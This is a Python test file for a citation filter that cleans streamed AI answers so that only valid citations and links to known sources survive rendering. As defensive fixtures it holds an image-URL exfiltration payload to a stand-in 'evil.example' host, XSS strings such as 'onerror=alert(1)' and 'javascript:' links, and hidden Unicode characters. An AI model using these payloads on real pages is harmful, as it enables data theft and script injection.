"""What a model writes is safe and the same, however it is cut into pieces."""

from collections.abc import Iterator, Sequence

import pytest
from chat_svc.answers.citations import CitationFilter
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

KNOWN_URL = "https://known.example/page"


def make() -> CitationFilter:
    return CitationFilter(
        lambda number: 1 <= number <= 3,
        lambda url: KNOWN_URL if url.startswith(KNOWN_URL) else None,
    )


def clean(text: str, cuts: tuple[int, ...] = ()) -> str:
    places = sorted({cut % (len(text) + 1) for cut in cuts})
    pieces = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    citations = make()
    return "".join(citations.feed(piece) for piece in pieces) + citations.finish()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Plain text, nothing else.", "Plain text, nothing else."),
        ("One [1] two[2].", "One [1] two[2]."),
        ("Both [1][2].", "Both [1][2]."),
        ("Both [1, 2] and [1;3].", "Both [1][2] and [1][3]."),
        ("Столица — Москва [ 1 ,2 ].", "Столица — Москва [1][2]."),
        ("Unknown [9].", "Unknown."),
        ("Half [1, 9] known.", "Half [1] known."),
        ("Huge [123456789123456789] end", "Huge end"),
        ("Order [3][1][2]", "Order [3][1][2]"),
        ("Wow![1]", "Wow![1]"),
        ("Open [1", "Open \\[1"),
        ("Code `a[9]` stays", "Code `a[9]` stays"),
        ("Code ``a`[9]`` stays", "Code ``a`[9]`` stays"),
        ("```py\nx = a[9]\n```\nafter [9].", "```py\nx = a[9]\n```\nafter."),
        ("~~~\n[9] <b>\n~~~\n[1]", "~~~\n[9] <b>\n~~~\n[1]"),
        ("Footnote [^1] and task\n- [ ] open\n- [x] done", None),
        ("[^1]: a footnote", "\\[^1]: a footnote"),
        (f"See [the page]({KNOWN_URL}).", f"See [the page]({KNOWN_URL})."),
        ("See [the page](https://evil.example/a).", "See the page."),
        ('See [it](https://evil.example "title") [1].', "See it [1]."),
        ("![pixel](https://evil.example/?q=secret)", "pixel"),
        (f"![pixel]({KNOWN_URL}/a.png)", "pixel"),
        (f"[![alt](https://evil.example/x)]({KNOWN_URL})", f"[alt]({KNOWN_URL})"),
        ("[a [b](https://evil.example) c]", "[a b c]"),
        ("[`x]`](https://evil.example)", "`x]`"),
        ("Cited as link [1](https://evil.example/).", "Cited as link [1]."),
        ("As in [1](2020) they say", "As in [1]\\(2020) they say"),
        ("[1]: https://evil.example", "[1]\\: `https://evil.example`"),
        ("- [ref]: //evil.example", "- \\[ref]: //evil.example"),
        ("Go to https://evil.example/a?b=c.", "Go to `https://evil.example/a?b=c`."),
        (f"Go to {KNOWN_URL}.", f"Go to {KNOWN_URL}."),
        ("Go to WWW.evil.example!", "Go to `WWW.evil.example`!"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
        ("<https://evil.example>", "\\<`https://evil.example`>"),
        ("a < b and 1 <2", None),
        ("Open ` tick [x](https://evil.example)", "Open \\` tick x"),
        ("`a\nb` [x](https://evil.example) `c`", "\\`a\nb` [x](https://evil.example) `c\\`"),
        ("> ```\n[x](https://evil.example)", "> \\`\\`\\`\nx"),
        ("> ~~~\n~~gone~~", "> \\~\\~\\~\n~~gone~~"),
        (
            "- a\n  ```\n  code [9]\n[x](https://evil.example)\n",
            "- a\n  ```\n  code [9]\n  ```\nx\n",
        ),
        (r"\[x](https://evil.example)", r"\[x](`https://evil.example`)"),
        ("[javascript](javascript:alert(1))", "javascript"),
        ("which we have how", None),
    ],
)
def test_what_is_shown(written: str, shown: str | None) -> None:
    assert clean(written) == (written if shown is None else shown)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        # the source's own address, not what was added to it
        (f"[a]({KNOWN_URL}?utm_x=secret#secret)", f"[a]({KNOWN_URL})"),
        (f"{KNOWN_URL}#secret and more", f"{KNOWN_URL} and more"),
        # code ends where every renderer sees its end
        ("```\n    ```\n[a](u)", "```\n```\na"),
        ("- a\n  ```\n  b\n```\n[a](u)", "- a\n  ```\n  b\n  ```\na"),
        ("  ```\na\n  ```\n  [a](u)", "  ```\n  ```\na\n  ```\n  [a](u)"),
        ("~~~ py `x` |\na\n~~~`\n[a](u)", "~~~py\na\n~~~\na"),
        ("``` a ```\n[9]", "` a `\n"),
        # a bar cuts code in a table
        ("|a|b|\n|-|-|\n|`a|[b](u)`|", "|a|b|\n|-|-|\n|\\`a|b\\`|"),
        ("|a|b|\n|-|-|\n|`a\\|b`|1|", None),
        ("|a|\n|-|\n\nNow `a|[b]`", None),
        ("`a|[b](u)`|b\n-|-", "`a|[b](u)`|b\n\\-|-"),
        ("- `a|b`\n- `c|d`", None),
        # what is left out leaves no other construct behind
        ("![a][9](//evil.example)", "![a] (//evil.example)"),
        ("[a][9]: //evil.example", "[a] : //evil.example"),
        ("!![[a]](u)(//evil.example)", "! [a] (//evil.example)"),
        ("[a][(//evil.example)](u)", "[a] (//evil.example)"),
        (f"![9][a]({KNOWN_URL})", f"! [a]({KNOWN_URL})"),
        ("<[img](u) src=x>", "< img src=x>"),
        ("`a`[9]``[a](u)``", "`a` ``[a](u)``"),
        ("https://evil.example```[a](u)``", "`https://evil.example`\\`\\`\\`a\\`\\`"),
        ("[\n](u)[1]: //evil.example", " [1]\\: //evil.example"),
        ("[a https://evil.example/](u)](//evil.example)", "a `https://evil.example/`](//evil.example)"),
        # nothing is seen in the text that is not there for people
        ("~~~\r~~~\r[a](u)", "~~~~~~"),
        ("a\u200bb\u202ec\U000e0041d", "abcd"),
    ],
)  # fmt: skip
def test_what_tries_to_get_through(written: str, shown: str | None) -> None:
    assert clean(written) == (written if shown is None else shown)


FRAGMENTS = st.lists(
    st.sampled_from(
        [
            *("[", "]", "(", ")", "1", "9", ", ", "`", "```", "\n", "\n\n", " ", "!", "<", ">"),
            *("\\", "https://evil.example", KNOWN_URL, "www.", "h", "ht", "текст", "word", ":"),
            *("~~~", "~", "  ", "[1]", "[9]", "[1, 2]", "[a](", "![a](", "^", "-", "*", "|", "\t"),
            *("](//evil.example)", "[r]: //evil.example", "![r]", "img src=x", "<img src=x>"),
            *("- ", "1. ", "> ", "|---|---|", "\n-|-\n", "`a | b`", "\n  ```\n", "\n```\n"),
            *("\r", "\xa0", "\u200b", "# ", "\n---\n"),
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=250, deadline=None)
@given(FRAGMENTS, st.lists(st.integers(0, 200), max_size=12))
@example("> ```\n[x](https://evil.example)", [2])
@example("text [99] . [1", [5, 6, 7, 8, 9, 12, 13])
def test_any_cutting_gives_the_same(text: str, cuts: list[int]) -> None:
    whole = clean(text)
    assert clean(text, tuple(cuts)) == whole
    assert clean(text, tuple(range(len(text)))) == whole


RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
RENDERER.validateLink = lambda _: True


def alien(tokens: Sequence[Token]) -> Iterator[str]:
    """What a page could make of an answer besides text and links to the source."""
    for token in tokens:
        if token.type == "link_open" and token.attrs["href"] != KNOWN_URL:
            yield f"link to {token.attrs['href']}"
        elif token.type in {"image", "html_block", "html_inline"}:
            yield f"{token.type} {token.content}"
        yield from alien(token.children or ())


@settings(max_examples=250, deadline=None)
@given(FRAGMENTS)
@example("```js|<img>[x](//evil.example)\n---\n")
@example('[$^"https://evil.example/p]+ `$, ](//evil.example/p)')
def test_a_renderer_sees_only_links_to_sources(text: str) -> None:
    assert list(alien(RENDERER.parse(clean(text)))) == []


def test_dropped_marks_are_counted_and_text_flows_on() -> None:
    citations = make()
    assert citations.feed("First words") == "First words"
    assert citations.feed(" and [7") == " and"
    assert citations.feed("] more") == " more"
    assert citations.finish() == ""
    assert citations.dropped == 1
